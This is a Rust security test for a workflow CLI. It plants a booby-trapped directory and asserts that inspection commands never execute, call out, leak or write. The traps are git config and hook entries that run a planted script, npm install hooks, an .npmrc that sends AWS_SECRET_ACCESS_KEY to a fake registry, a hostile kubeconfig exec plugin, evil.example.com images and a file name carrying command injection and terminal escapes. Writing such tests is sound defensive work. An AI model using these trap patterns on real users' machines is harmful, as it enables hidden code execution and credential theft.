//! A directory with every trap at once, on which everything is run that only looks: nothing of it runs, nobody is called,
//! and nothing is written but what was asked for.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::{MetadataExt, symlink};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde_json::json;
use tempfile::TempDir;

use super::listener::{Listener, http};
use crate::images::executable;
use crate::support::{Kubeconfig, Namespace};

const CANARY: &str = "CANARY-7d20";
/// A command that takes longer waits for something that never comes.
const HANGS: &str = "120";

/// Programs that a command may look for, each with the trap's own program in the directory.
const PROGRAMS: [&str; 6] = ["deno", "git", "docker", "podman", "kind", "kubectl"];

/// The directory of a stranger, below one of the stranger's, and a user who has come there.
struct Trap {
    base: TempDir,
    server: Listener,
    namespace: Namespace,
    kubeconfig: Kubeconfig,
}

impl Trap {
    fn set() -> Self {
        let trap = Self {
            base: tempfile::tempdir().expect("a directory"),
            server: Listener::start(http("404 Not Found", "", "")),
            namespace: Namespace::new("trap"),
            kubeconfig: Kubeconfig::current(),
        };
        for dir in ["home", "tmp", "cache", "above/trap/nodes"] {
            fs::create_dir_all(trap.at(dir)).expect("a directory");
        }
        trap.write("victim", CANARY);
        trap.write("home/.bashrc", "# the user's own\n");
        trap.programs();
        trap.code();
        trap.settings();
        trap.repository();
        trap.links();
        trap.odd_files();
        trap
    }

    fn at(&self, name: &str) -> PathBuf {
        let base = fs::canonicalize(self.base.path()).expect("a directory");
        base.join(name)
    }

    fn write(&self, name: &str, text: &str) {
        let path = self.at(name);
        fs::create_dir_all(path.parent().expect("a parent")).expect("a directory");
        fs::write(path, text).expect("a file");
    }

    /// A program that leaves a file behind when it runs.
    fn planted(&self, name: &str) -> PathBuf {
        let path = self.at(name);
        let ran = self.at("ran").display().to_string();
        executable(&path, &format!("#!/bin/sh\necho {name} >>{ran}\nexit 1\n"));
        path
    }

    fn programs(&self) {
        self.planted("above/trap/planted.sh");
        for program in PROGRAMS {
            self.planted(&format!("above/trap/{program}"));
        }
    }

    fn code(&self) {
        let victim = self.at("victim").display().to_string();
        let port = self.server.port;
        self.write("above/trap/workflow.yaml", "name: trap\nversion: \"1.0\"\ntriggers: [{type: manual}]\nnodes: {only: {path: nodes/only.ts}}\ncontract: {version: \"1\", dependencies: {api: {protocol: https, host: api.example.com, auth: {type: bearer-token, secret: api.token}}}}\n");
        // What a node does while it is loaded, without waiting to be called.
        self.write(
            "above/trap/nodes/only.ts",
            &format!(
                "import type {{ Context }} from \"tentacular\";\nDeno.writeTextFileSync(\"{}\", \"node\");\n\
                 await Reflect.get(globalThis, \"fetch\")(\"http://127.0.0.1:{port}/node\");\n\
                 export default (ctx: Context) => ctx.dependency(\"api\");\n",
                self.at("ran").display()
            ),
        );
        let map = json!({"imports": {"tentacular": format!("file://{victim}"), "mapped": format!("http://127.0.0.1:{port}/map")},
            "tasks": {"build": "./planted.sh"}});
        let package = json!({"name": "trap", "scripts": {"preinstall": "./planted.sh", "postinstall": "./planted.sh"},
            "dependencies": {"mapped": "npm:postgres-array@2.0.0"}});
        for dir in ["above", "above/trap"] {
            self.write(&format!("{dir}/deno.json"), &map.to_string());
            self.write(&format!("{dir}/package.json"), &package.to_string());
            let registry = format!("127.0.0.1:{port}");
            self.write(
                &format!("{dir}/.npmrc"),
                &format!("registry=http://{registry}/\n//{registry}/:_authToken=${{AWS_SECRET_ACCESS_KEY}}\n"),
            );
        }
    }

    fn settings(&self) {
        let (plugin, port) = (self.at("above/trap/planted.sh"), self.server.port);
        let config = json!({
            "trusted_directories": [self.at("above").display().to_string()],
            "trigger_image": "evil.example.com/curl:v1",
            "base_image": "evil.example.com/deno:v1",
            "registry": format!("127.0.0.1:{port}/evil"),
            "environments": {"dev": {"kubeconfig": "../kubeconfig", "image": "evil.example.com/engine:v1",
                "secrets_source": self.at("home/.bashrc").display().to_string()}},
        });
        self.write("above/trap/.tentacular/config.yaml", &config.to_string());
        self.write(
            "above/trap/.tentacular/base-image.txt",
            "evil.example.com/engine:v1\n",
        );
        let user = json!({"exec": {"apiVersion": "client.authentication.k8s.io/v1", "command": plugin, "interactiveMode": "Never"}});
        let hostile = json!({"apiVersion": "v1", "kind": "Config", "current-context": "evil",
            "contexts": [{"name": "evil", "context": {"cluster": "evil", "user": "evil"}}],
            "clusters": [{"name": "evil", "cluster": {"server": format!("http://127.0.0.1:{port}")}}],
            "users": [{"name": "evil", "user": user}]});
        for name in ["kubeconfig", ".kube/config"] {
            self.write(&format!("above/trap/{name}"), &hostile.to_string());
        }
        let environment = format!(
            "KUBECONFIG=kubeconfig\nTENTACULAR_ENV=dev\nTNTC_DENO=./deno\nCANARY={CANARY}\n"
        );
        self.write("above/trap/.env", &environment);
    }

    /// A repository whose settings and hooks name programs.
    fn repository(&self) {
        let program = self.at("above/trap/planted.sh").display().to_string();
        let keys = ["fsmonitor", "sshCommand", "pager", "editor", "askPass"];
        let keys = keys.map(|key| format!("{key} = {program}\n")).concat();
        let hooks = self.at("above/trap/.git/hooks").display().to_string();
        let config = format!(
            "[core]\nrepositoryformatversion = 0\nbare = false\n{keys}hooksPath = {hooks}\n\
             [filter \"x\"]\nclean = {program}\nprocess = {program}\n[diff]\nexternal = {program}\n\
             [alias]\ncheck-ignore = !{program}\n"
        );
        self.write("above/trap/.git/config", &config);
        self.write("above/trap/.git/HEAD", "ref: refs/heads/main\n");
        for dir in ["objects", "refs/heads", "hooks"] {
            fs::create_dir_all(self.at(&format!("above/trap/.git/{dir}"))).expect("a directory");
        }
        for hook in [
            "post-index-change",
            "fsmonitor-watchman",
            "post-checkout",
            "pre-commit",
        ] {
            self.planted(&format!("above/trap/.git/hooks/{hook}"));
        }
        self.write("above/trap/.gitattributes", "* filter=x diff=x\n");
    }

    fn links(&self) {
        for name in [
            "workflow-diagram.md",
            "contract-summary.md",
            ".gitignore",
            ".secrets.yaml.new",
            ".gitignore.new",
            "workflow-diagram.md.new",
            "notes.md",
        ] {
            let link = self.at(&format!("above/trap/{name}"));
            symlink(self.at("victim"), link).expect("a link");
        }
        symlink("/", self.at("above/trap/slash")).expect("a link");
        symlink(self.at("home"), self.at("above/trap/tests")).expect("a link");
        symlink("/dev/zero", self.at("above/trap/device")).expect("a link");
    }

    fn odd_files(&self) {
        let program = self.at("above/trap/planted.sh").display().to_string();
        self.write(
            "above/trap/.secrets.yaml.example",
            &format!("x: \"$({program})\"\napi: {{token: \"`{program}`\"}}\n"),
        );
        let made = Command::new("mkfifo")
            .arg(self.at("above/trap/pipe"))
            .status();
        assert!(made.expect("mkfifo runs").success());
        let huge = fs::File::create(self.at("above/trap/huge.bin")).expect("a file");
        huge.set_len(3 << 30).expect("a sparse file");
        self.write(
            "above/trap/$(touch ran); -n \u{1b}]52;c;eA==\u{7}.ts",
            "export {};\n",
        );
    }

    /// Runs in the directory as the user, who has a secret in the environment.
    fn run(&self, arguments: &[&str], environment: &[(&str, &str)]) -> Output {
        let mut command = Command::new("timeout");
        command
            .arg(HANGS)
            .arg(env!("CARGO_BIN_EXE_tntc"))
            .args(arguments);
        command
            .current_dir(self.at("above/trap"))
            .env("HOME", self.at("home"))
            .env("XDG_CACHE_HOME", self.at("cache"))
            .env("DENO_DIR", self.at("cache/deno"))
            .env("TMPDIR", self.at("tmp"))
            .env("KUBECONFIG", self.kubeconfig.path())
            .env("AWS_SECRET_ACCESS_KEY", CANARY)
            .env("NO_COLOR", "1")
            .env_remove("TENTACULAR_ENV")
            .envs(environment.iter().copied());
        command.output().expect("timeout runs")
    }

    /// Everything outside of the cache, with what would show a change.
    fn state(&self) -> BTreeMap<PathBuf, String> {
        let mut state = BTreeMap::new();
        for dir in ["home", "tmp", "above"] {
            walk(&self.at(dir), &mut state);
        }
        state.insert(self.at("victim"), describe(&self.at("victim")));
        state
    }

    #[track_caller]
    fn nothing_happened(&self, before: &BTreeMap<PathBuf, String>, what: &str, answer: &Output) {
        let shown = [&answer.stdout, &answer.stderr].map(|it| String::from_utf8_lossy(it));
        let shown = shown.join("\n");
        let ran = fs::read_to_string(self.at("ran"));
        assert!(ran.is_err(), "{what}: {ran:?} ran\n{shown}");
        let requests = self.server.requests();
        assert!(requests.is_empty(), "{what}: {requests:?}\n{shown}");
        assert!(!shown.contains(CANARY), "{what}: {shown}");
        assert!(!shown.contains('\u{1b}'), "{what}: {shown:?}");
        assert_eq!(&self.state(), before, "{what}\n{shown}");
    }
}

fn walk(dir: &Path, state: &mut BTreeMap<PathBuf, String>) {
    for entry in fs::read_dir(dir).expect("a directory") {
        let path = entry.expect("an entry").path();
        state.insert(path.clone(), describe(&path));
        if path.is_dir() && !path.is_symlink() {
            walk(&path, state);
        }
    }
}

fn describe(path: &Path) -> String {
    let found = fs::symlink_metadata(path).expect("an entry");
    let content = if found.is_symlink() {
        fs::read_link(path).expect("a link").display().to_string()
    } else if found.is_file() && found.len() < 1 << 20 {
        String::from_utf8_lossy(&fs::read(path).expect("a file")).into_owned()
    } else {
        String::new()
    };
    format!("{:o} {} {content}", found.mode(), found.len())
}

/// Commands that only look, with their exit status here.
const LOOKING: [(&[&str], i32); 24] = [
    (&["validate"], 0),
    (&["validate", "-v", "-o", "json"], 0),
    (&["visualize"], 0),
    (&["visualize", "--rich", "-o", "json"], 0),
    (&["visualize", "--check"], 1),
    (&["list"], 0),
    (&["list", "-o", "json"], 0),
    (&["status", "trap"], 1),
    (&["logs", "trap"], 1),
    (&["audit"], 1),
    (&["audit", "-o", "json"], 1),
    (&["deploy", "--dry-run"], 0),
    (&["deploy", "--dry-run", "-o", "json"], 0),
    (&["deploy", "--dry-run", "--show-secrets"], 0),
    (&["secrets", "check"], 1),
    (&["secrets", "check", "--local", "-o", "json"], 1),
    (&["configure", "--show"], 0),
    (&["configure", "--show", "-o", "json"], 0),
    (&["cluster", "check"], 1),
    (&["schema", "workflow"], 0),
    (&["completions", "bash"], 0),
    (&["test", "--help"], 0),
    (&["run", "--help"], 0),
    (&["version"], 0),
];

/// Commands that write, or start something, which refuse here before they do.
const REFUSED: [(&[&str], i32); 9] = [
    (&["visualize", "--write"], 1),
    (&["secrets", "init"], 1),
    (&["secrets", "init", "--force"], 1),
    (&["init", "nodes"], 2),
    (&["deploy"], 2),
    (&["deploy", "--force"], 2),
    (&["test", "--live"], 2),
    (&["build"], 2),
    (&["run", "trap"], 2),
];

/// What reads an environment, which is the trap's own.
const IN_DEV: [&[&str]; 9] = [
    &["validate"],
    &["list"],
    &["status", "trap"],
    &["logs", "trap"],
    &["audit"],
    &["deploy", "--dry-run"],
    &["secrets", "check"],
    &["cluster", "check"],
    &["configure", "--show"],
];

#[test]
fn a_strangers_directory_is_safe_to_look_at() {
    let trap = Trap::set();
    let before = trap.state();
    let namespace = trap.namespace.name.as_str();
    let check = |arguments: &[&str], environment: &[(&str, &str)], expected: i32| {
        let answer = trap.run(arguments, environment);
        let what = format!("{arguments:?} {environment:?}");
        trap.nothing_happened(&before, &what, &answer);
        let said = String::from_utf8_lossy(&answer.stderr);
        assert_eq!(answer.status.code(), Some(expected), "{what}: {said}");
    };
    for (arguments, expected) in LOOKING.iter().chain(&REFUSED) {
        let needs_namespace = !matches!(
            arguments[0],
            "configure" | "schema" | "completions" | "init"
        );
        let flags: &[&str] = if needs_namespace {
            &["-n", namespace]
        } else {
            &[]
        };
        check(&[arguments, flags].concat(), &[], *expected);
    }
    for arguments in IN_DEV {
        check(arguments, &[("TENTACULAR_ENV", "dev")], 2);
        check(&[arguments, &["--env", "dev"]].concat(), &[], 2);
    }
    // Bundling reads more than any other command, and goes by the directory's import map.
    let node = trap.at("above/trap/nodes/only.ts");
    let source = fs::read_to_string(&node).expect("a file");
    fs::write(&node, format!("import \"mapped\";\n{source}")).expect("a file");
    let before = trap.state();
    for arguments in [
        &["deploy", "--dry-run"][..],
        &["audit"],
        &["cluster", "check"],
    ] {
        let answer = trap.run(&[arguments, &["-n", namespace]].concat(), &[]);
        trap.nothing_happened(&before, &format!("{arguments:?}"), &answer);
        assert_ne!(answer.status.code(), Some(124), "{arguments:?}");
        let said = [answer.stdout, answer.stderr].concat();
        let said = String::from_utf8_lossy(&said);
        assert!(said.contains("cannot bundle nodes/only.ts"), "{said}");
    }
    assert!(
        trap.namespace
            .list("deployments,pods,secrets,configmaps,jobs")
            .iter()
            .all(|it| { it["metadata"]["name"] == "kube-root-ca.crt" })
    );
}

#[test]
fn a_new_workflow_in_a_strangers_directory_is_the_templates_and_nothing_else() {
    let trap = Trap::set();
    let mut before = trap.state();
    let answer = trap.run(&["init", "fresh"], &[]);
    assert_eq!(answer.status.code(), Some(0), "{answer:?}");
    let fresh = trap.at("above/trap/fresh");
    walk(&fresh, &mut before);
    for dir in [&fresh, &trap.at("above/trap")] {
        before.insert(dir.clone(), describe(dir));
    }
    trap.nothing_happened(&before, "init", &answer);
}
